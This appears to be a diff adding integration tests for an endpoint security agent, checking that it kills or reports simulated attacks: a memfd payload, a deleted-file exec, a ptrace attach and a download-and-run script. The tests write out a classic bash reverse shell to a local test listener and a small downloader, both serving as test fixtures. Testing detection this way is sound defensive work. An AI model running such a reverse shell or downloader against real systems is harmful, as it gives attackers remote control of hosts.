@@ -1,0 +1,343 @@
+"""Behaviour rules of a real vigil-endpoint against real attacks, observed from outside.
+
+A real agent (two processes, real fanotify on a tmpfs of this module, the real process connector)
+publishing to a real Mosquitto; attacks run as separate processes: a payload executed from a memfd,
+a `bash -i` reverse shell to a listener in a network namespace of the test's own, a ptrace attach.
+What is checked is what an outsider sees: the attack process's fate (killed or not), the listener's
+connection, and the behaviour events on the broker.  Budget: about 40 s.
+"""
+from __future__ import annotations
+
+import contextlib
+import ctypes
+import hashlib
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+import yaml
+
+from tests.support.endpoint_behaviour import Events, Listener, Netns, deleted_payload_cmd, memfd_payload_cmd
+from tests.support.waiting import wait_for
+from tests.support.fanotify import fanotify_marks_on, mount_id, mount_tmpfs, remove_tmpfs
+from vigil.control import call
+from vigil.influx import InfluxError
+from vigil.lab.services import InfluxDB, ManagedProcess, Mosquitto, free_port, vigil_command
+
+pytestmark = pytest.mark.integration
+
+SLEEP = shutil.which("sleep")
+
+
+class Stack:
+    def __init__(self, run: Path):
+        self.run = run
+        self.mnt = run / "mnt"
+
+    @contextlib.contextmanager
+    def agent(self, mode: str, name: str, **over):
+        cfg = {"endpoint_id": name, "mqtt": self.mosquitto.mqtt_config(), "mode": mode, "mounts": [str(self.mnt)],
+               "state_dir": str(self.run / f"state-{name}"), "control_socket": str(self.run / f"{name}.sock"),
+               "batch_interval": 0.3}
+        cfg.update(over)
+        path = self.run / f"{name}.yaml"
+        path.write_text(yaml.safe_dump(cfg))
+        p = ManagedProcess(name, [*vigil_command("vigil-endpoint"), "-c", str(path)], self.run).start()
+        try:
+            deadline = time.monotonic() + 15
+            while "mqtt: connected" not in p.log_text():
+                assert p.alive(), p.log_text()
+                assert time.monotonic() < deadline, p.log_text()
+                time.sleep(0.05)
+            p.sock = self.run / f"{name}.sock"
+            yield p
+        finally:
+            p.stop(timeout=5)
+            assert not fanotify_marks_on(self.mnt_id), "a fanotify mark outlived the agent"
+
+
+def decider_counters(agent) -> dict:
+    return call(agent.sock, "endpoint.status", timeout=10)["decider"]["counters"]
+
+
+@pytest.fixture(scope="module")
+def stack():
+    run, _ = mount_tmpfs("bh", size="16m")
+    s = Stack(run)
+    procs = []
+    events = ns = None
+    try:
+        s.mnt_id = mount_id(s.mnt)
+        s.mosquitto = Mosquitto(run).start()
+        procs.append(s.mosquitto.proc)
+        s.influx = InfluxDB(run).start()
+        procs.append(s.influx.proc)
+        s.events = events = Events(s.mosquitto.port)
+        s.ns = ns = Netns()
+        mcfg = {"manager_id": "m", "mqtt": s.mosquitto.mqtt_config(),
+                "influx": {"url": s.influx.url, "flush_interval": 0.5},
+                "state_dir": str(run / "state"), "control_socket": str(run / "manager.sock"),
+                "verdicts": {"clamd_socket": None}}
+        (run / "manager.yaml").write_text(yaml.safe_dump(mcfg))
+        s.manager = ManagedProcess("manager", [*vigil_command("vigil-manager"), "-c", str(run / "manager.yaml")],
+                                   run).start()
+        procs.append(s.manager)
+        deadline = time.monotonic() + 20
+        while "mqtt: connected" not in s.manager.log_text():
+            assert s.manager.alive() and time.monotonic() < deadline, s.manager.log_text()
+            time.sleep(0.05)
+        yield s
+    finally:
+        if events is not None:
+            events.close()
+        if ns is not None:
+            ns.close()
+        for p in reversed(procs):
+            p.stop()
+        remove_tmpfs(run)
+
+
+def run_memfd_payload(*args: str, timeout: float = 10.0, cmd=memfd_payload_cmd) -> tuple[int, float]:
+    """(exit status, seconds from just before its execve to its death as seen by its parent)."""
+    p = subprocess.Popen(cmd(SLEEP, *args), stdout=subprocess.PIPE, text=True)
+    try:
+        t_exec = float(p.stdout.readline())
+        p.wait(timeout)
+        return p.returncode, time.clock_gettime(time.CLOCK_MONOTONIC) - t_exec
+    finally:
+        if p.poll() is None:
+            p.kill()
+            p.wait()
+
+
+def reverse_shell(ns: Netns, port: int) -> subprocess.Popen:
+    # the classic: an interactive bash whose stdin, stdout and stderr are a TCP connection
+    return subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/{ns.ns_ip}/{port} 0>&1"],
+                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
+def test_memfd_payload_killed_within_50ms_p95(stack):
+    sha = hashlib.sha256(Path(SLEEP).read_bytes()).hexdigest()
+    stack.events.clear()
+    with stack.agent("block-malicious", "bhmem") as agent:
+        latencies = []
+        for _ in range(20):
+            rc, dt = run_memfd_payload("5")
+            assert rc == -signal.SIGKILL, f"the memfd payload was not killed (exit {rc})"
+            latencies.append(dt)
+        latencies.sort()
+        p95 = latencies[int(0.95 * len(latencies)) - 1]
+        print(f"memfd payload killed: p50 {latencies[len(latencies) // 2] * 1000:.1f} ms, "
+              f"p95 {p95 * 1000:.1f} ms, max {latencies[-1] * 1000:.1f} ms")
+        assert p95 < 0.050, latencies
+        ev = stack.events.wait(lambda e: e["rule"] == "memfd-exec")
+        assert ev["action"] == "killed" and ev["technique"] == "T1620"
+        assert ev["path"].startswith("/memfd:payload")
+        assert ev["sha256"] == sha                       # the payload's own hash, read from memory
+        assert ev["tree"][0]["pid"] == ev["pid"] and ev["tree"][0]["cmdline"].startswith("payload 5")
+        assert Path(ev["tree"][1]["exe"]).name.startswith("python")      # who ran it
+        assert decider_counters(agent)["behaviour_killed"] >= 20
+    # the manager stores each event, with its technique, action and process tree
+    rows = wait_for(lambda: stack.influx.query(
+        "SELECT * FROM endpoint_behaviour WHERE \"rule\" = 'memfd-exec' AND \"endpoint\" = 'bhmem'"),
+        15, "behaviour events in InfluxDB", retry_on=(InfluxError,))
+    assert rows[0]["technique"] == "T1620" and rows[0]["action"] == "killed" and rows[0]["sha256"] == sha
+    assert "python" in json.loads(rows[0]["tree"])[1]["exe"]
+
+
+def test_exec_of_a_deleted_file_killed(stack):
+    stack.events.clear()
+    with stack.agent("block-malicious", "bhdel"):
+        rc, _ = run_memfd_payload("5", cmd=deleted_payload_cmd)
+        assert rc == -signal.SIGKILL
+        ev = stack.events.wait(lambda e: e["rule"] == "deleted-exec")
+        assert ev["action"] == "killed" and ev["path"].endswith("/dropper (deleted)")
+        assert ev["sha256"] == hashlib.sha256(Path(SLEEP).read_bytes()).hexdigest()
+
+
+def test_reverse_shell_killed_and_connection_closed(stack):
+    port = free_port()
+    listener = Listener(stack.ns, port)
+    stack.events.clear()
+    try:
+        with stack.agent("block-malicious", "bhrev"):
+            shell = reverse_shell(stack.ns, port)
+            try:
+                accepted = float(listener.expect("accepted", 10).split()[1])
+                closed = float(listener.expect("closed", 5).split()[1])
+                assert shell.wait(5) in (-signal.SIGKILL, 128 + signal.SIGKILL)
+            finally:
+                if shell.poll() is None:
+                    shell.kill()
+                    shell.wait()
+            print(f"reverse shell: connection closed {1000 * (closed - accepted):.1f} ms after it was accepted")
+            ev = stack.events.wait(lambda e: e["rule"] == "reverse-shell")
+            assert ev["action"] == "killed" and ev["technique"] == "T1059.004"
+            assert Path(ev["path"]).name == "bash" and ev["closed"] >= 1
+            assert "bash -i" in ev["tree"][0]["cmdline"]
+            assert all(len(n["sha256"] or "") == 64 for n in ev["tree"][:2])
+    finally:
+        listener.close()
+
+
+def test_monitor_mode_reports_and_does_not_block(stack):
+    port = free_port()
+    # the attacker types a command; the shell runs it and answers
+    listener = Listener(stack.ns, port, send="echo vigil-$((6*7)); exit\n")
+    stack.events.clear()
+    try:
+        with stack.agent("monitor", "bhmon"):
+            rc, _ = run_memfd_payload("0.2")
+            assert rc == 0, "monitor mode killed the memfd payload"
+            shell = reverse_shell(stack.ns, port)
+            try:
+                listener.expect("accepted", 10)
+                got = listener.expect("data", 5)
+                while "vigil-42" not in " ".join(listener.out):
+                    got = listener.expect("data", 5)
+                listener.expect("closed", 5)
+                assert shell.wait(5) == 0, got
+            finally:
+                if shell.poll() is None:
+                    shell.kill()
+                    shell.wait()
+            for rule in ("memfd-exec", "reverse-shell"):
+                ev = stack.events.wait(lambda e, rule=rule: e["rule"] == rule)
+                assert ev["action"] == "would-block" and ev["mode"] == "monitor"
+    finally:
+        listener.close()
+
+
+BENIGN_SCRIPT = """#!/bin/sh
+set -e
+# the kind of thing package maintainer scripts and cron jobs do
+tmp=$(mktemp -d)
+trap 'rm -rf "$tmp"' EXIT
+printf '#!/bin/sh\\necho helper "$@"\\n' > "$tmp/helper"
+chmod +x "$tmp/helper"
+"$tmp/helper" one | tr a-z A-Z | grep -q HELPER
+for i in 1 2 3; do sh -c 'echo $((1+$1))' _ "$i" >/dev/null; done
+bash -c 'true | cat' </dev/null
+python3 -c 'import subprocess; subprocess.run("echo hi | wc -c", shell=True, check=True, capture_output=True)'
+env LC_ALL=C sort </dev/null
+"""
+
+
+def test_benign_run_fires_no_rule(stack):
+    script = stack.run / "benign.sh"
+    script.write_text(BENIGN_SCRIPT)
+    script.chmod(0o755)
+    stack.events.clear()
+    with stack.agent("block-malicious", "bhok") as agent:
+        for _ in range(3):
+            subprocess.run([str(script)], check=True, timeout=30)
+            subprocess.run(["bash", "-lc", "cd /tmp && ls >/dev/null && echo ok"], check=True, timeout=30,
+                           capture_output=True)
+            subprocess.run([sys.executable, "-c", "print(sum(range(10)))"], check=True, capture_output=True)
+        # an interactive shell of an operator on a terminal (a pseudo-terminal, not a socket)
+        subprocess.run(["script", "-qec", "bash -ic 'echo interactive'", "/dev/null"], check=True,
+                       capture_output=True, timeout=30, stdin=subprocess.DEVNULL)
+        # a shell whose stdio is a Unix socket (as for `ssh host cmd` and service managers)
+        subprocess.run([sys.executable, "-c", "import socket, subprocess; a, b = socket.socketpair();"
+                        "subprocess.run(['sh', '-c', 'echo hi'], stdin=b, stdout=b, check=True)"],
+                       check=True, capture_output=True, timeout=30)
+        time.sleep(1.0)
+        c = decider_counters(agent)
+        assert c.get("behaviour_exec_events", 0) >= 30, c        # it was watching
+        assert not [k for k in c if k.startswith(("behaviour_killed", "behaviour_blocked", "behaviour_rule_"))], c
+        assert not stack.events.collect()
+
+
+def ptrace_attach_and_wait(target: int) -> None:
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.ptrace(16, target, 0, 0) != 0:       # PTRACE_ATTACH
+        raise OSError(ctypes.get_errno(), "ptrace")
+    time.sleep(5)
+
+
+def test_ptrace_attach_by_non_debugger_killed(stack):
+    victim = subprocess.Popen([SLEEP, "30"])
+    stack.events.clear()
+    try:
+        with stack.agent("block-malicious", "bhptr"):
+            tracer = subprocess.Popen([sys.executable, "-c",
+                                       "import sys; sys.path.insert(0, sys.argv[2]);"
+                                       "from tests.integration.test_endpoint_behaviour import ptrace_attach_and_wait;"
+                                       "ptrace_attach_and_wait(int(sys.argv[1]))", str(victim.pid), os.getcwd()])
+            assert tracer.wait(10) == -signal.SIGKILL
+            ev = stack.events.wait(lambda e: e["rule"] == "ptrace-attach")
+            assert ev["action"] == "killed" and ev["tracee"]["pid"] == victim.pid and ev["pid"] == tracer.pid
+            if shutil.which("strace"):      # an allowed debugger is left alone
+                st = subprocess.Popen(["strace", "-o", "/dev/null", "-p", str(victim.pid)],
+                                      stderr=subprocess.DEVNULL)
+                time.sleep(1.0)
+                assert st.poll() is None, "strace was killed"
+                st.terminate()
+                st.wait(5)
+            assert victim.poll() is None
+    finally:
+        victim.kill()
+        victim.wait()
+
+
+DOWNLOADER = r"""
+import os, socket, sys
+# "downloads" a program: holds a connection to the attacker's server while it writes the file
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+data = open("/bin/true", "rb").read()
+with open(sys.argv[3], "wb") as f:
+    f.write(data)
+os.chmod(sys.argv[3], 0o755)
+try:
+    os.execv(sys.argv[3], [sys.argv[3]])
+except PermissionError:
+    print("EPERM", flush=True)
+"""
+
+
+def test_download_and_run_denied_in_strict_mode(stack):
+    port = free_port()
+    listener = Listener(stack.ns, port)
+    stack.events.clear()
+    fetched, local = stack.mnt / "fetched", stack.mnt / "local-build"
+    try:
+        with stack.agent("block-malicious", "bhdl", behaviour={"strict": True}, decision_deadline=0.05) as agent:
+            r = subprocess.run([sys.executable, "-c", DOWNLOADER, stack.ns.ns_ip, str(port), str(fetched)],
+                               capture_output=True, text=True, timeout=30)
+            assert r.stdout.strip() == "EPERM", r
+            ev = stack.events.wait(lambda e: e["rule"] == "download-and-run")
+            assert ev["action"] == "blocked" and ev["technique"] == "T1105" and ev["path"] == str(fetched)
+            assert Path(ev["writer"]["exe"]).name.startswith("python") and ev["writer"]["age_ms"] < 30000
+            # a program written by a process without a network connection runs (not by this test's
+            # own process: it holds the MQTT connection of the event subscriber)
+            subprocess.run(["cp", "/bin/true", str(local)], check=True)
+            assert subprocess.run([str(local)]).returncode == 0
+            c = decider_counters(agent)
+            assert c["behaviour_network_writes"] == 1 and c["behaviour_writes_seen"] >= 2
+        # outside the stricter mode the rule is off and nothing watches writes
+        fetched.unlink()
+        listener.close()
+        listener = Listener(stack.ns, port)
+        with stack.agent("block-malicious", "bhdl2", decision_deadline=0.05) as agent:
+            r = subprocess.run([sys.executable, "-c", DOWNLOADER, stack.ns.ns_ip, str(port), str(fetched)],
+                               capture_output=True, text=True, timeout=30)
+            assert r.returncode == 0 and "EPERM" not in r.stdout, r
+            assert "behaviour_writes_seen" not in decider_counters(agent)
+    finally:
+        listener.close()
+
+
+def test_connector_refused_in_a_nested_pid_namespace():
+    """Its pids are the initial namespace's: read through a container's /proc they would name other
+    processes (and a kill would hit the wrong one)."""
+    code = ("from vigil.endpoint.behaviour.connector import Connector\n"
+            "try:\n    Connector()\nexcept OSError as e:\n    print('refused', e.errno)\n")
+    r = subprocess.run(["unshare", "--pid", "--fork", "--mount-proc", sys.executable, "-c", code],
+                       capture_output=True, text=True, timeout=30)
+    assert r.stdout.strip() == "refused 95", r
